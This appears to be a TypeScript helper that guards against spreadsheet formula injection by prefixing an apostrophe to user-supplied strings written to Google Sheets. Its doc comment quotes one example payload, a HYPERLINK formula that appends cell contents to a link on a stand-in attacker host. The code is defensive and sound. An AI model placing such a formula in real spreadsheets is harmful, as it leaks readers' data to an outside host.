/**
 * Text that came from people (a model's name, a hire's role, a channel) written so Sheets keeps
 * it as text. Sheets reads a value written with setValue/setValues as if it were typed: text
 * starting with "=" becomes a formula — `=HYPERLINK("https://evil.example/?"&A2, "Click")` would
 * run in the reader's sheet — and "+", "-" or "@" can too. A leading apostrophe makes the rest
 * plain text (and is not part of the value), so such text, or text that itself starts with an
 * apostrophe, gets one. Anything else is written as is.
 */
export function asText<T>(value: T): T | string {
  return typeof value === "string" && /^[=+\-@']/.test(value) ? `'${value}` : value;
}
